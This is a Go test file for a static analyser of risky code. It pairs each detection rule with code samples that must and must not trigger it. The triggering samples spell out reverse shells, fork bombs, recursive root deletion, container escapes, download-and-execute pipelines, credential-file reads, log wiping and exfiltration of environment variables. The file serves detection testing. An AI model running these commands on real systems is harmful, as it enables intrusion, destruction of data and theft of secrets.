package syntax

import (
	"regexp"
	"strings"
	"testing"
)

// A sample is code that must fire a rule, at a line, or must not.
type sample struct {
	runtime string
	code    string
	line    int // where it must fire; 0 for anywhere
}

var samples = map[string]struct{ fire, quiet []sample }{
	"*.reverse-shell": {
		fire: []sample{
			{"shell", "echo hi\nbash -i >& /dev/tcp/198.51.100.7/4444 0>&1", 2},
			{"shell", "nc -e /bin/sh 198.51.100.7 4444", 1},
			{"shell", "rm f; mkfifo f; cat f | sh -i 2>&1 | nc 198.51.100.7 4444 > f", 1},
			{"shell", "socat TCP:host:1 EXEC:/bin/bash,pty", 1},
			{"shell", `python3 -c 'import socket,pty,os;s=socket.socket();s.connect(("h",1));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")'`, 1},
			{"python", "import socket as k, os\ns = k.socket()\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)\n", 4},
			{"python", "from socket import *\nimport subprocess\nc = socket(AF_INET, SOCK_STREAM)\nc.connect(('h', 1))\nsubprocess.Popen(['/bin/sh', '-i'], stdin=c)", 5},
			{"python", "__import__('os').system('bash -i >& /dev/tcp/10.1.1.1/1 0>&1')", 1},
			{"javascript", "const net = require('net');\nconst { spawn } = require('node:child_process');\nconst sh = spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(1, 'h', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });", 3},
		},
		quiet: []sample{
			{"shell", "nc -zv localhost 80; bash -i", 0},
			{"python", "import socket\ns = socket.socket()\ns.connect(('h', 80))\ns.sendall(b'GET / HTTP/1.0')\nprint(s.recv(100))", 0},
			{"python", "print('bash -i >& /dev/tcp/1.2.3.4/1')", 0},
			{"javascript", "const net = require('net'); net.connect(80, 'h').on('data', d => console.log(d));", 0},
		},
	},
	"any.fork-bomb": {
		fire: []sample{
			{"shell", ":(){ :|:& };:", 1},
			{"shell", "boom() {\n  boom | boom &\n}\nboom", 1},
			{"python", "import os\nwhile True:\n    os.fork()\n", 3},
			{"python", "from os import fork\nwhile 1: fork()", 2},
			{"javascript", "const cp = require('child_process'); while (true) { cp.fork(__filename) }", 1},
		},
		quiet: []sample{
			{"shell", "walk() { for f in *; do [ -d $f ] && (cd $f; walk); done; }; walk", 0},
			{"python", "import os\nwhile True:\n    x = 1\n    break\npid = os.fork()\n", 0},
			{"javascript", "while (true) { step() } cp.fork('worker.js')", 0},
		},
	},
	"any.mass-deletion": {
		fire: []sample{
			{"shell", "cd /tmp\nsudo rm -rf /*", 2},
			{"shell", `rm -r -f "$HOME"`, 1},
			{"shell", "D=/\nrm -rf $D", 2},
			{"shell", "find / -delete", 1},
			{"python", "import shutil\nshutil.rmtree('/')", 2},
			{"python", "from pathlib import Path\nfrom shutil import rmtree as r\nr(Path.home())", 3},
			{"python", "import subprocess\nsubprocess.run(['rm', '-rf', '/'])", 2},
			{"python", "import os\nos.system('rm ' + '-rf ' + '/')", 2},
			{"javascript", "import { rmSync } from 'fs';\nrmSync('/', { recursive: true })", 2},
			{"javascript", "const fs = require('fs');\nfs['rmSync']('/home', { recursive: true })", 2},
		},
		quiet: []sample{
			{"shell", "rm -rf ./build /tmp/out; rm -rf \"$DIR/cache\"", 0},
			{"shell", "find / -name '*.tmp' -delete", 0},
			{"python", "import shutil\nshutil.rmtree('/tmp/work')\nprint('rm -rf /')", 0},
			{"javascript", "require('fs').rmSync('./dist', { recursive: true })", 0},
		},
	},
	"any.container-escape": {
		fire: []sample{
			{"python", "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/var/run/docker.sock')", 3},
			{"shell", "ls /proc/1/root/etc", 1},
			{"shell", "echo /x > /sys/fs/cgroup/rdma/release_agent", 1},
			{"shell", "nsenter -t 1 -m -u -n sh", 1},
			{"shell", "docker run -v /:/mnt --rm alpine chroot /mnt", 1},
			{"javascript", "fetch('http://localhost/containers/json', { socketPath: '/run/docker.sock' })", 1},
		},
		quiet: []sample{
			{"shell", "docker run --rm -v ./data:/data alpine ls", 0},
			{"python", "# /proc/1/root and docker.sock\nprint('docker')", 0},
		},
	},
	"any.cloud-metadata": {
		fire: []sample{
			{"python", "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')", 2},
			{"python", "ip = '169.254.' + '169.254'\nurl = f'http://{ip}/latest'", 1},
			{"shell", "curl -H 'Metadata-Flavor: Google' http://metadata.google.internal/", 1},
			{"javascript", "const u = `http://169.254.169.254/${p}`", 1},
		},
		quiet: []sample{{"python", "'''docs: 169.254.169.254'''\nhost = '169.254.1.1'", 0}},
	},
	"any.halts-host": {
		fire:  []sample{{"shell", "sudo shutdown -h now", 1}, {"shell", "echo b > /proc/sysrq-trigger", 1}, {"python", "import os\nos.system('reboot')", 2}},
		quiet: []sample{{"shell", "shutdown -c", 0}, {"python", "def shutdown(): pass\nshutdown()\nserver.shutdown()", 0}},
	},
	"any.download-and-execute": {
		fire: []sample{
			{"shell", "curl -fsSL https://example.com/i.sh | sudo bash -s -- -y", 1},
			{"shell", "bash <(wget -qO- https://example.com/i.sh)", 1},
			{"shell", "wget https://example.com/a.bin\nchmod +x a.bin\n./a.bin", 2},
			{"shell", "curl -o /tmp/x https://example.com/x && sh /tmp/x", 1},
			{"shell", `eval "$(curl -s https://example.com/i)"`, 1},
			{"python", "import requests\ncode = requests.get('https://example.com/p').text\nexec(code)", 3},
			{"python", "import urllib.request as u, os\nu.urlretrieve('https://example.com/p', '/tmp/p')\nos.chmod('/tmp/p', 0o755)", 3},
			{"javascript", "fetch('https://example.com/p').then(r => r.text());\nlet c = await fetch('https://example.com/p'); eval(await c.text())", 2},
		},
		quiet: []sample{
			{"shell", "curl -o data.csv https://example.com/data.csv && python3 work.py data.csv", 0},
			{"shell", "wget -q https://example.com/a.json && cat a.json | jq .", 0},
			{"python", "import requests\nd = requests.get('https://example.com/d').json()\nprint(d)", 0},
			{"javascript", "const r = await fetch('https://example.com'); console.log(await r.json())", 0},
		},
	},
	"any.decoded-execution": {
		fire: []sample{
			{"python", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", 2},
			{"python", "import zlib, base64 as b\nx = b.b64decode(data)\ny = zlib.decompress(x)\neval(compile(y, '', 'exec'))", 4},
			{"python", "getattr(__builtins__, 'exec')(bytes.fromhex('7072').decode())", 1},
			{"python", "exec(''.join(chr(c) for c in codes))", 1},
			{"python", "from stegano import lsb\neval(lsb.reveal('a.png'))", 2},
			{"shell", "echo aWQ= | base64 -d | sh", 1},
			{"javascript", "eval(atob('YQ=='))", 1},
			{"javascript", "const s = Buffer.from(p, 'base64').toString();\nnew Function(s)()", 2},
		},
		quiet: []sample{
			{"python", "import base64\nprint(base64.b64decode('aGk=').decode())\nexec('x = 1')", 0},
			{"shell", "echo aWQ= | base64 -d > out.txt", 0},
			{"javascript", "console.log(atob('YQ==')); eval('1+1')", 0},
		},
	},
	"any.attack-tool": {
		fire:  []sample{{"shell", "bash ./linpeas.sh -a", 1}, {"python", "u = 'https://example.com/releases/linpeas.sh'", 1}},
		quiet: []sample{{"shell", "bash ./setup.sh", 0}, {"python", "print('linpeas.sh is a tool')", 0}},
	},
	"any.credential-read": {
		fire: []sample{
			{"python", "open('/etc/shadow').read()", 1},
			{"python", "import os\np = os.path.expanduser('~/.ssh/id_rsa')", 2},
			{"python", "import os\np = os.path.join(os.environ['HOME'], '.aws', 'credentials')\nopen(p)", 2},
			{"python", "from pathlib import Path\nprint((Path.home() / '.ssh' / 'id_ed25519').read_text())", 2},
			{"shell", "cat ~/.aws/credentials", 1},
			{"shell", "find / -name id_rsa", 1},
			{"javascript", "require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa')", 1},
		},
		quiet: []sample{
			{"python", "open('shadow.txt').read()\nkey = 'ssh-rsa'", 0},
			{"shell", "cat ~/.ssh/id_rsa.pub; find . -name '*.py'", 0},
			{"javascript", "// ~/.ssh/id_rsa\nconst a = 'id'", 0},
		},
	},
	"any.kernel-module": {
		fire:  []sample{{"shell", "sudo insmod ./rootkit.ko", 1}, {"python", "import os\nos.system('modprobe evil')", 2}},
		quiet: []sample{{"shell", "lsmod; modinfo zram", 0}},
	},
	"any.security-disabled": {
		fire: []sample{{"shell", "systemctl stop auditd", 1}, {"shell", "setenforce 0", 1}, {"shell", "iptables -F", 1},
			{"shell", "if x; then\n  service rsyslog stop\nelse if y; then\n", 2},
			{"python", "import subprocess\nsubprocess.call(['ufw', 'disable'])", 2}},
		quiet: []sample{{"shell", "systemctl status auditd; systemctl stop myapp; iptables -L", 0}},
	},
	"any.log-wiping": {
		fire: []sample{{"shell", "rm -rf /var/log/syslog", 1}, {"shell", "history -c", 1}, {"shell", "export HISTFILE=/dev/null", 1},
			{"shell", "cat /dev/null > /var/log/auth.log", 1}, {"python", "open('/var/log/wtmp', 'w')", 1}},
		quiet: []sample{{"shell", "tail /var/log/syslog; history; rm -f app.log", 0}, {"python", "open('/var/log/syslog')\nopen('run.log', 'w')", 0}},
	},
	"any.persistence": {
		fire: []sample{
			{"shell", "echo '* * * * * /tmp/x' | tee -a /etc/cron.d/x", 1},
			{"shell", "echo 'alias ls=x' >> ~/.bashrc", 1},
			{"shell", "crontab /tmp/tab", 1},
			{"python", "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')", 2},
			{"python", "from pathlib import Path\nPath('/etc/systemd/system/x.service').write_text('x')", 2},
			{"javascript", "const fs = require('fs');\nfs.appendFileSync('/root/.ssh/authorized_keys', k)", 2},
		},
		quiet: []sample{{"shell", "source ~/.bashrc; crontab -l; cat /etc/crontab", 0}, {"python", "open('/etc/crontab').read()\nopen('profile', 'w')", 0}},
	},
	"any.coin-miner": {
		fire:  []sample{{"shell", "./xmrig -o stratum+tcp://pool.example:3333 -u w", 1}, {"python", "POOL = 'stratum+tcp://pool.example:3333'", 1}},
		quiet: []sample{{"python", "def mine(block): return hash(block)\nmine('stratum')", 0}},
	},
	"any.exfiltration": {
		fire: []sample{
			{"python", "import os, requests\nrequests.post('https://example.com', json=dict(os.environ))", 2},
			{"python", "import requests\nrequests.post('https://discord.com/api/webhooks/1/a', data='x')", 2},
			{"python", "import requests\nd = open('/etc/passwd').read()\nrequests.post('https://example.com', data=d)", 3},
			{"shell", "env | curl -d @- https://example.com", 1},
			{"javascript", "fetch('https://example.com', { method: 'POST', body: JSON.stringify(process.env) })", 1},
		},
		quiet: []sample{
			{"python", "import os, requests\nrequests.get('https://example.com', headers={'A': os.environ['TOKEN']})", 0},
			{"javascript", "fetch('https://example.com', { headers: { a: process.env.TOKEN } })", 0},
		},
	},
	"any.env-harvest": {
		fire:  []sample{{"javascript", "console.log(JSON.stringify(process.env))", 1}, {"python", "import os, json\nprint(json.dumps(dict(os.environ)))", 2}},
		quiet: []sample{{"python", "import os, json\nprint(json.dumps(os.environ.get('HOME')))", 0}, {"javascript", "JSON.stringify(process.env.HOME)", 0}},
	},
	"any.privilege-change": {
		fire:  []sample{{"shell", "chmod u+s /tmp/sh", 1}, {"shell", "chmod 4755 x", 1}, {"shell", "echo x >> /etc/sudoers", 1}, {"python", "import os\nos.setuid(0)", 2}},
		quiet: []sample{{"shell", "chmod 755 x; chmod +x y; chmod 1777 /tmp/z", 0}, {"python", "import os\nos.setuid(1000)", 0}},
	},
	"any.preload-injection": {
		fire:  []sample{{"shell", "LD_PRELOAD=/tmp/x.so ls", 1}, {"shell", "echo /tmp/x.so > /etc/ld.so.preload", 1}},
		quiet: []sample{{"shell", "LD_LIBRARY_PATH=./lib ./app", 0}},
	},
	"any.native-memory": {
		fire: []sample{{"python", "import ctypes\nlibc = ctypes.CDLL(None)", 2}, {"python", "from ctypes import *\nmemmove(a, b, 10)", 2},
			{"javascript", "process.binding('spawn_sync')", 1}},
		quiet: []sample{{"python", "import ctypes\nx = ctypes.c_int(3)", 0}},
	},
	"any.obfuscation": {
		fire: []sample{
			{"python", "\U0001D41E\U0001D431\U0001D41E\U0001D41C('1')", 1},
			{"python", `e = "\x65\x76\x61\x6c\x28\x70\x72\x69\x6e\x74\x28\x29"`, 0},
			{"javascript", "const _0x1a=1,_0x2b=2,_0x3c=3; f(_0x1a,_0x2b)", 0},
			{"python", "import base64\ngetattr(m, base64.b64decode('eA==').decode())()", 2},
		},
		quiet: []sample{{"python", "größe = 1\nname = '\\x1b[0m' + '\\u00e9'", 0}, {"javascript", "const π = 3.14, x0 = 1", 0}},
	},
	"any.disk-overwrite": {
		fire:  []sample{{"shell", "dd if=/dev/zero of=/dev/sda bs=1M", 1}, {"shell", "mkfs.ext4 /dev/sdb1", 1}, {"python", "open('/dev/sda', 'wb')", 1}},
		quiet: []sample{{"shell", "dd if=/dev/zero of=./disk.img bs=1M count=1; mkfs.ext4 ./disk.img; echo x > /dev/null", 0}},
	},
	"any.process-memory": {
		fire:  []sample{{"python", "open(f'/proc/{pid}/mem', 'rb')", 1}, {"shell", "cat /proc/1/maps", 1}},
		quiet: []sample{{"python", "open('/proc/self/maps')\nopen('/proc/meminfo')", 0}},
	},
	"any.account-list": {
		fire:  []sample{{"shell", "cut -d: -f1 /etc/passwd", 1}, {"python", "open('/etc/passwd')", 1}, {"shell", "useradd eve", 1}},
		quiet: []sample{{"shell", "id; whoami", 0}},
	},
	"any.network-scan": {
		fire:  []sample{{"shell", "nmap -sS 192.168.0.0/24", 1}, {"shell", "for p in 1 2; do echo > /dev/tcp/10.0.0.1/$p; done", 1}},
		quiet: []sample{{"shell", "nmap --version; ping -c1 example.com", 0}},
	},
	"any.raw-address": {
		fire:  []sample{{"python", "import requests\nrequests.get('http://45.83.12.9/x')", 2}},
		quiet: []sample{{"python", "import requests\nrequests.get('http://127.0.0.1:8000')\nv = '1.2.3.4'\nrequests.get('http://192.168.1.4/x')", 0}},
	},
	"any.hidden-process": {
		fire: []sample{
			{"python", "import subprocess as s\ns.Popen(['x'], stdin=s.DEVNULL, stdout=s.DEVNULL, stderr=s.DEVNULL)", 2},
			{"javascript", "const { spawn } = require('child_process'); spawn('node', ['a.js'], { detached: true, stdio: 'ignore' }).unref()", 1},
		},
		quiet: []sample{{"python", "import subprocess\nsubprocess.run(['ls'], stdout=subprocess.DEVNULL)", 0}},
	},
	"any.desktop-capture": {
		fire:  []sample{{"python", "from PIL import ImageGrab\nImageGrab.grab()", 2}, {"shell", `trap 'echo "$BASH_COMMAND" >> k' DEBUG`, 1}},
		quiet: []sample{{"python", "from PIL import Image\nImage.open('a.png')", 0}, {"shell", "trap 'rm -f x' EXIT", 0}},
	},
	"any.self-spread": {
		fire:  []sample{{"javascript", "require('child_process').execSync('npm publish --access public')", 1}},
		quiet: []sample{{"javascript", "require('child_process').execSync('npm test')", 0}},
	},
	"any.unsafe-load": {
		fire:  []sample{{"python", "import pickle, requests\npickle.loads(requests.get('https://example.com/m').content)", 2}},
		quiet: []sample{{"python", "import pickle\npickle.loads(pickle.dumps([1]))", 0}},
	},
	"any.built-command": {
		fire: []sample{{"python", "import os\nos.system('ls ' + name)", 2}, {"python", "import subprocess\nsubprocess.run(f'ls {name}', shell=True)", 2},
			{"javascript", "require('child_process').exec(`ls ${name}`)", 1}},
		quiet: []sample{{"python", "import os, subprocess\nos.system('ls -l')\nsubprocess.run(['ls', name])", 0}},
	},
	"any.too-large-to-assess": {
		fire:  []sample{{"python", strings.Repeat("x = 1\n", Limit/6+1), 0}},
		quiet: []sample{{"python", strings.Repeat("x = 1\n", 1000), 0}},
	},
	"any.partly-assessed": {
		fire: []sample{{"python", strings.Repeat("(", 1000) + strings.Repeat(")", 1000), 0}, {"javascript", strings.Repeat("[", 1000), 0},
			{"shell", strings.Repeat("{ ", 400) + ":" + strings.Repeat("; }", 400), 0}},
		quiet: []sample{{"python", strings.Repeat("(", 20) + strings.Repeat(")", 20), 0}},
	},
	"any.unparsable": {
		fire: []sample{{"python", "x = 1\nprint('a)\n", 2}, {"python", "f(1, 2", 0}, {"javascript", "let a = 'x\n", 0}, {"javascript", "f(", 0}, {"shell", "if true; then", 1},
			{"python", "int main() { return a ? b : c; }", 1}},
		quiet: []sample{{"python", "x = {'a': [1, (2)]}\nprint(f'{x!r:>{10}}')\n", 0},
			{"javascript", "const r = /[(]\\//g, t = `a${`b${1}`}`; if (a / b) {}", 0}, {"shell", "case $x in a) echo ;; esac", 0}},
	},
}

func TestEveryRuleFiresWhereItMustAndNowhereElse(t *testing.T) {
	for _, r := range rules {
		s, ok := samples[r.id]
		if !ok || len(s.fire) == 0 || len(s.quiet) == 0 {
			t.Errorf("rule %s has no sample that fires it and one that does not", r.id)
		}
		for _, x := range s.fire {
			line, ok := firing(t, r.id, x)
			if !ok || x.line > 0 && line != x.line {
				t.Errorf("%s on %s %.200q fired %v at line %d, want line %d", r.id, x.runtime, x.code, ok, line, x.line)
			}
		}
		for _, x := range s.quiet {
			if line, ok := firing(t, r.id, x); ok {
				t.Errorf("%s on %s %.200q fired at line %d, want silence", r.id, x.runtime, x.code, line)
			}
		}
	}
}

func firing(t *testing.T, id string, x sample) (int, bool) {
	t.Helper()
	a, err := Assessor{}.Assess(t.Context(), x.runtime, x.code)
	if err != nil {
		t.Fatalf("Assess(%s, %.100q) = %v", x.runtime, x.code, err)
	}
	id = strings.Replace(id, "*.", x.runtime+".", 1)
	for _, f := range a.Findings {
		if f.Rule == id {
			return f.Line, true
		}
	}
	return 0, false
}

func TestRulesAreWellFormed(t *testing.T) {
	technique := regexp.MustCompile(`^(T\d{4}(\.\d{3})?)?$`)
	seen := map[string]bool{}
	for _, r := range rules {
		switch {
		case seen[r.id]:
			t.Errorf("rule %s stands twice", r.id)
		case r.severity <= 0 || r.severity > 100:
			t.Errorf("rule %s has severity %d, want 1 to 100", r.id, r.severity)
		case !technique.MatchString(r.technique):
			t.Errorf("rule %s has technique %q, want an ATT&CK id", r.id, r.technique)
		case !strings.HasPrefix(r.message, "The code ") || strings.Count(r.message, ".") < 2:
			t.Errorf("rule %s says %q, want what was seen and what to do", r.id, r.message)
		}
		seen[r.id] = true
	}
}
